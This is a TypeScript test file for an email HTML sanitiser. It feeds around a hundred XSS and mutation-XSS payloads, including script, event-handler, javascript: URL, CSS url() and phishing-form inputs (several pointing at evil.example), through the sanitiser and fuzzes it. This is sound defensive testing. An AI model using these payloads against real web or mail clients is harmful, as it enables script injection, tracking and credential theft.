import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { expect, test } from 'vitest';
import { MAX_DEPTH } from '../../src/mail/html-elements.ts';
import { sanitiseHtml } from '../../src/mail/sanitise-html.ts';

/** What a browser must never find in what we show. */
function dangersIn(html: string): readonly string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!HARMLESS_ELEMENTS.has(name)) dangers.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const isHarmless = HARMLESS_ATTRIBUTES[attribute] ?? null;
        if (isHarmless === null || !isHarmless(value)) dangers.push(`${name} ${attribute}=${value}`);
      }
    },
    oncomment: (text) => void dangers.push(`comment ${text}`),
    onprocessinginstruction: (name) => void dangers.push(name),
  });
  parser.write(html);
  parser.end();
  return dangers;
}

const HARMLESS_ELEMENTS = new Set(
  'a abbr b big blockquote br center code div em font h1 hr i img li ol p pre q span strong table tbody td th thead tr u ul'.split(
    ' ',
  ),
);
const anything = (): boolean => true;
const HARMLESS_ATTRIBUTES: Readonly<Record<string, (value: string) => boolean>> = {
  href: (value) => /^(?:https?:\/\/|mailto:)/.test(value),
  src: (value) => /^(?:cid:|data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*$)/.test(value),
  style: (value) => !/url|expression|import|behavior|binding|position|javascript|[\\@/*<>]/i.test(value),
  rel: (value) => value === 'noopener noreferrer nofollow',
  target: (value) => value === '_blank',
  ...Object.fromEntries(
    'title alt width height dir lang align valign bgcolor color colspan face size'
      .split(' ')
      .map((name) => [name, anything]),
  ),
};

/** The usual ways to run a script, load something or cover the page, and some that change when parsed twice. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script src="data:text/javascript,alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="cat">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AA\\"onerror=alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif" srcset="//evil.example/2x 2x">',
  '<img src=cid:a srcset="https://evil.example/b 2x">',
  '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">',
  '<image src="https://evil.example/x" onerror="alert(1)">',
  '<input type=image src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body background="https://evil.example/x">',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">a</td></tr></table>',
  '<div onmouseover="alert(1)">a</div>',
  '<div ONCLICK=alert(1)>a</div>',
  '<p on\u0000click=alert(1)>a</p>',
  '<b onpointerenter\n=\n"alert(1)">a</b>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/console/delete">a</a>',
  '<a href="#top" name="top" id="top">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="https://evil.example" target="_top" rel="opener" ping="https://evil.example/p">a</a>',
  '<a href=<a href="https://evil.example" target="_top" rel="opener">a</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,x#y"></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">a</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<p id="</p><img src=x onerror=alert(1)>">a',
  '<a title="</a><img src=x onerror=alert(1)>">a</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
  '<object data="javascript:alert(1)"><img src=x onerror=alert(1)></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><a href="x">a</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x)">a</div>',
  '<div style="background-image:u\\72l(https://evil.example/x)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">a</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">a</div>',
  '<div style="color:red;/**/background:url(x)">a</div>',
  '<div style="font-family:\'a;background:url(x)\'">a</div>',
  '<div style="list-style-image:url(x);cursor:url(x),auto;content:url(x)">a</div>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<button formaction=javascript:alert(1)>a</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<input autofocus onfocus=alert(1)>',
  '<div id="console" class="button" name="body">a</div>',
  '<img name="getElementById" src=cid:a>',
  '<dialog open>a</dialog><menu>a</menu><slot>a</slot>',
  '<x onclick=alert(1)>a</x>',
  '<a\u00a0href="javascript:alert(1)">a</a>',
  '<p title=`<img src=x onerror=alert(1)>`>a</p>',
  '<p title="a&quot;onclick=alert(1)&quot;">a</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b title="&lt;/b&gt;&lt;img src=x onerror=alert(1)&gt;">a</b>',
];

test.each(ATTACKS)('an attack does nothing: %s', (attack) => {
  const { html } = sanitiseHtml(`before ${attack} after`);
  expect(dangersIn(html)).toEqual([]);
  expect(sanitiseHtml(html).html).toBe(html);
});

test.each([
  ['paragraphs and lists', '<p>a</p><ul><li>b</li></ul>', '<p>a</p><ul><li>b</li></ul>'],
  ['colours and sizes', '<p style="Color: red; font-size:12.5px">a</p>', '<p style="color:red;font-size:12.5px">a</p>'],
  ['rgb()', '<p style="color:rgb(1, 2, 3)">a</p>', '<p style="color:rgb(1, 2, 3)">a</p>'],
  [
    'what is safe of a style',
    '<p style="color:red;position:fixed;margin:0">a</p>',
    '<p style="color:red;margin:0">a</p>',
  ],
  [
    'tables',
    '<table border="1"><tr><td colspan="2">a</td></tr></table>',
    '<table border="1"><tr><td colspan="2">a</td></tr></table>',
  ],
  ['an image of the mail', '<img src="cid:logo@x" alt="Logo">', '<img src="cid:logo@x" alt="Logo" />'],
  ['an image in the HTML', '<img src="data:image/png;base64,iVBO+/=">', '<img src="data:image/png;base64,iVBO+/=" />'],
  [
    'the description of an image elsewhere',
    'a<img src="https://x.example/a.png" alt="<Logo>">b',
    'a<span>[image: &lt;Logo&gt;]</span>b',
  ],
  ['that there was an image', '<img src="https://x.example/a.png">', '<span>[image]</span>'],
  ['nothing of a counting pixel', '<img src="https://x.example/a" width="1" height="1">', '<span></span>'],
  [
    'a link, which says nothing of us',
    '<a href="HTTPS://Shop.example/?a=1&b=2" class="x">b</a>',
    '<a href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">b</a>',
  ],
  [
    'an address',
    '<a href="mailto:ana@corp.example">b</a>',
    '<a href="mailto:ana@corp.example" rel="noopener noreferrer nofollow" target="_blank">b</a>',
  ],
  ['the text of what is not known', '<o:p>a</o:p><custom-x>b</custom-x>', 'ab'],
  ['text that looks like a tag', 'a < b & c', 'a &lt; b &amp; c'],
])('of a mail is shown: %s', (_, html, shown) => expect(sanitiseHtml(html).html).toBe(shown));

test('what was taken out is counted', () => {
  const { removed } = sanitiseHtml(
    '<style>p{}</style><script>x</script><p onclick=x>a</p><form><input></form><img src=//x.example/a><a href="data:,">b</a>',
  );
  expect(removed).toEqual({
    active_content: 2,
    form: 2,
    style_sheet: 1,
    remote_image: 1,
    link: 1,
    too_deep: 0,
    too_long: 0,
  });
});

test.each([
  ['nested', '<div>'.repeat(100_000), 'too_deep'],
  ['nested and closed', `${'<b>'.repeat(100_000)}x${'</b>'.repeat(100_000)}`, 'too_deep'],
  ['made of tags within tags', '<<div>b>'.repeat(50_000), 'too_deep'],
  ['long', '<p>a</p>'.repeat(200_000), 'too_long'],
  ['many', '<br>'.repeat(60_000), 'too_long'],
] as const)('HTML that is too %s is cut, not refused', (_, html, kind) => {
  const sanitised = sanitiseHtml(html);
  expect(sanitised.removed[kind]).toBeGreaterThan(0);
  expect(depthOf(sanitised.html)).toBeLessThanOrEqual(MAX_DEPTH + 1);
  expect(sanitised.html.match(/<\w/g)?.length ?? 0).toBeLessThanOrEqual(50_000);
});

function depthOf(html: string): number {
  let depth = 0;
  let deepest = 0;
  for (const [tag] of html.matchAll(/<\/?[a-z]+[^>]*>/g)) {
    if (tag.endsWith('/>')) continue;
    depth += tag.startsWith('</') ? -1 : 1;
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}

test('no string becomes dangerous, read once or twice', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '`',
        '/',
        '=',
        ' ',
        '\n',
        '\0',
        '&',
        '&lt;',
        '&quot;',
        '&#x6a',
        ';',
        '<!--',
        '-->',
        ']]>',
        '<![CDATA[',
      ],
      ...[
        '<script',
        '</script',
        '<style',
        '</style',
        '<svg',
        '</svg',
        '<math',
        '<mtext',
        '<title',
        '</title',
        '<noscript',
        '</noscript',
      ],
      ...[
        '<textarea',
        '</textarea',
        '<xmp',
        '<iframe',
        '</iframe',
        '<template',
        '<select',
        '<table',
        '<td',
        '<p',
        '</p',
        '<form',
        '<b',
        '</b',
      ],
      ...[
        '<a href=',
        'javascript:',
        'https://x.example',
        '<img src=',
        'cid:a',
        ' onerror=',
        'alert(1)',
        ' style=',
        'color:red',
        'url(x)',
        ' title=',
      ],
    ),
    fc.constantFrom(...ATTACKS),
    fc.string({ maxLength: 5 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const { html } = sanitiseHtml(pieces.join(''));
      expect(dangersIn(html)).toEqual([]);
      expect(dangersIn(sanitiseHtml(html).html)).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});
